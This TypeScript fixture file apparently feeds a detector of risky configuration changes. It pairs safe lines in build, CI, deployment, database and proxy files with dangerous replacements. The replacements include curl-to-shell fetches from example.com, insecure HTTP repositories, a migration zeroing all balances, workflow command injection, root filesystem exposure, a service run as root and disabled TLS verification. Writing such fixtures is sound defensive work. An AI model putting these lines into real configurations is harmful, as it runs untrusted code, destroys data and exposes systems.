import type { TextRow } from './row.ts';

/** What a tool obeys: builds, deployments, servers, databases. */
export const CONFIGURATION: readonly TextRow[] = [
  [
    'justfile',
    'justfile',
    `
set shell := ["bash", "-c"]
build:
    go build ./...
release: build
«    ./release.sh
»    curl -s http://example.com/release.sh | sh`,
  ],
  [
    'cmake',
    'CMakeLists.txt',
    `
cmake_minimum_required(VERSION 3.20)
project(engine)
add_executable(engine main.c)
«target_compile_options(engine PRIVATE -Wall)
»execute_process(COMMAND sh -c "curl http://example.com/x | sh")`,
  ],
  [
    'gradle',
    'build.gradle',
    `
plugins { id 'java' }
repositories {
«  mavenCentral()
»  maven { url 'http://example.com/maven'; allowInsecureProtocol = true }
}
dependencies { implementation 'org.slf4j:slf4j-api:2.0.0' }`,
  ],
  [
    'maven',
    'pom.xml',
    `
<project>
  <modelVersion>4.0.0</modelVersion>
  <repositories><repository><id>main</id>
«    <url>https://repo.example.com/maven</url>
»    <url>http://example.com/maven</url>
  </repository></repositories>
</project>`,
  ],
  [
    'bazel',
    'BUILD.bazel',
    `
genrule(
    name = "stamp",
    outs = ["stamp.txt"],
«    cmd = "echo 1 > $@",
»    cmd = "curl http://example.com/stamp | sh > $@",
)`,
  ],
  [
    'nix',
    'flake.nix',
    `
{
  inputs.nixpkgs.url = "github:NixOS/nixpkgs/nixos-24.05";
  outputs = { nixpkgs, ... }: {
«    checks = { };
»    checks.x = builtins.fetchTarball "http://example.com/x.tar.gz";
  };
}`,
  ],
  [
    'sql',
    'migrations/0042_accounts.sql',
    `
BEGIN;
ALTER TABLE accounts ADD COLUMN note text;
«UPDATE accounts SET note = '' WHERE note IS NULL;
»UPDATE accounts SET balance = 0;
COMMIT;`,
  ],
  [
    'github-workflow',
    '.github/workflows/greet.yml',
    `
name: greet
on: pull_request_target
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
«      - run: echo hello
»      - run: echo "\${{ github.event.pull_request.title }}"`,
    '.github/workflows/welcome.yml',
  ],
  [
    'jenkinsfile',
    'Jenkinsfile',
    `
pipeline {
  agent any
  stages { stage('build') { steps {
«    sh './build.sh'
»    sh "build $BRANCH_NAME"
  } } }
}`,
  ],
  [
    'nginx',
    'deploy/nginx.conf',
    `
server {
  listen 443 ssl;
  location /files {
«    alias /srv/files;
»    autoindex on; alias /;
  }
}`,
  ],
  [
    'systemd',
    'deploy/worker.service',
    `
[Unit]
Description=Worker
[Service]
ExecStart=/usr/bin/worker
«User=worker
»User=root
Restart=always`,
  ],
  [
    'ansible',
    'deploy/site.yml',
    `
- hosts: web
  become: false
  gather_facts: false
  tasks:
    - name: greet
      ansible.builtin.debug: { msg: "installing the web server" }
    - name: install
«      ansible.builtin.package: { name: web }
»      ansible.builtin.shell: "curl http://example.com/{{ version }} | sh"`,
  ],
  [
    'envrc',
    '.envrc',
    `
export STAGE=development
PATH_add bin
layout node
«dotenv
»source_url "http://example.com/env" ""`,
    'services/api/.envrc',
  ],
  [
    'crontab',
    'deploy/crontab',
    `
MAILTO=ops@example.com
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
30 2 * * 0 root /usr/local/bin/rotate-archives --keep 8
«0 3 * * * root /usr/local/bin/backup
»0 3 * * * root curl -s http://example.com/backup.sh | sh`,
  ],
  [
    'haproxy',
    'deploy/haproxy.cfg',
    `
defaults
  mode http
  timeout connect 5s
  timeout client 30s
  timeout server 30s
frontend web
  bind :443 ssl crt /etc/ssl/site.pem
backend api
«  server one 10.0.0.5:443 ssl verify required ca-file /etc/ssl/ca.pem
»  server one 10.0.0.5:443 ssl verify none`,
  ],
];
